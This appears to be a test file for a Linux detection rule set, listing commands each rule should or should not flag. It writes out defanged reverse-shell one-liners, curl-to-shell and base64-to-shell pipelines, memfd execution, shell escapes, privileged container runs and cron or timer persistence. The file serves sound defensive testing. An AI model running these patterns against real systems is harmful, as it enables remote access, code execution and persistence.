# SPDX-License-Identifier: Apache-2.0
# execution.sh - what runs something; read by ../record.sh, which says what the words mean
# shellcheck shell=bash disable=SC2016,SC2088

rule reverse_shell
run match bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'
run match python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
run no_match bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'
run no_match python3 -c 'import socket;s=socket.socket();s.connect(("127.0.0.1",1))'

rule download_to_shell
run match sh -c 'curl -s file:///dev/null | sh'
run match bash -c 'bash <(curl -s file:///dev/null)'
run no_match sh -c 'curl -s file:///dev/null | cat'

rule execution_from_memory
cp /usr/bin/true /dev/shm/vakt-case
cp /usr/bin/true "$BOX/vakt-case"
run match /dev/shm/vakt-case
run no_match "$BOX/vakt-case"
record match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "vakt-case-memfd"' \
	python3 -c 'import os
fd = os.memfd_create("x")
os.write(fd, open("/usr/bin/true", "rb").read())
os.execve(fd, ["vakt-case-memfd"], {})'
record match '.ActionType == "ProcessCreated" and .ProcessCommandLine == "vakt-case-deleted"' \
	python3 -c 'import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
os.unlink(sys.argv[1])
os.execve(fd, ["vakt-case-deleted"], {})' "$BOX/vakt-case"

rule base64_to_shell
run match sh -c 'echo dHJ1ZQ== | base64 -d | sh'
run match bash -c 'eval "$(echo dHJ1ZQ== | base64 --decode)"'
run no_match sh -c 'echo dHJ1ZQ== | base64 -d | cat'
run no_match sh -c 'echo true | base64 | sh'

rule shell_told_to_look_around
run match sh -c 'id; true'
run match bash -c 'whoami && uname -a'
run no_match sh -c 'true; false'
child no_match make sh -c 'id; true'

rule script_run_from_temporary_folder
run match bash /tmp/vakt-case-script
run no_match bash /tmp/vakt-cases/script
child no_match dpkg bash /tmp/vakt-case-script

rule variable_run_by_shell
run match sh -c 'X=true; echo $X | sh'
run no_match sh -c 'X=true; echo $X | cat'

rule shell_out_of_program
stand_in match awk 'BEGIN {system("/bin/sh &")}'
stand_in match busybox sh
stand_in match find . -exec /bin/sh \;
child match cpan sh -c true
stand_in no_match awk 'BEGIN {system("/bin/date")}'
stand_in no_match busybox ls
stand_in no_match find . -exec /bin/ls \;

rule terminal_by_interpreter
stand_in match python3 -c "import pty;pty.spawn('/bin/sh')"
stand_in match script -qc /bin/bash /dev/null
stand_in no_match python3 -c "import pty"

rule interpreter_runs_network_code
stand_in match python3 -c 'import urllib.request as u;exec(u.urlopen("http://127.0.0.1/x").read())'
stand_in no_match python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1/x").read())'

rule database_starts_program
child match mysqld ls -la
child match postgres sh -c id
child no_match mysqld pg_isready
child no_match mysqldump ls -la

rule java_starts_shell
child match java sh -c 'curl -s http://127.0.0.1/x'
child no_match java sh -c 'stat /'
child no_match javac sh -c 'curl -s http://127.0.0.1/x'

rule account_tool_of_system_used
stand_in match vipw
stand_in no_match view

rule command_run_in_container
stand_in match docker exec -it web /bin/sh
stand_in match kubectl exec -n x pod -- bash
stand_in no_match docker exec web /usr/bin/healthcheck

rule kubernetes_client_in_container
contained match kubectl version
stand_in no_match kubectl version

rule privileged_container_started
stand_in match docker run -v /:/host -it alpine sh
stand_in match docker run --privileged alpine
stand_in no_match docker run -v data:/host alpine

rule program_made_executable_in_temporary_folder
stand_in match chmod +x /tmp/vakt-case-script
stand_in match chmod 755 /dev/shm/x
stand_in match chmod 700 /tmp/x
stand_in no_match chmod 700 /tmp/x.lF5xYYOeFU
stand_in no_match chmod +x /opt/x
stand_in no_match chmod 644 /tmp/x

rule package_installed_from_url
stand_in match pip3 install git+https://example.test/x
stand_in match dpkg -i /tmp/x.deb
stand_in no_match pip3 install requests
stand_in no_match dpkg -i /var/cache/apt/archives/x.deb

rule job_queued_with_at
stand_in match at now + 1 minute
stand_in no_match at -l

rule crontab_changed
stand_in match crontab -
stand_in match crontab /tmp/jobs
stand_in no_match crontab -l

rule crontab_listed
stand_in match crontab -l
run match cat /etc/crontab
run no_match cat /etc/hostname

rule transient_timer_made
stand_in match systemd-run --on-calendar '*:0/1' /bin/sh -c true
stand_in no_match systemd-run --scope true

rule timer_unit_written
written match sh etc/systemd/system/x.timer
written no_match sh etc/systemd/x.timer
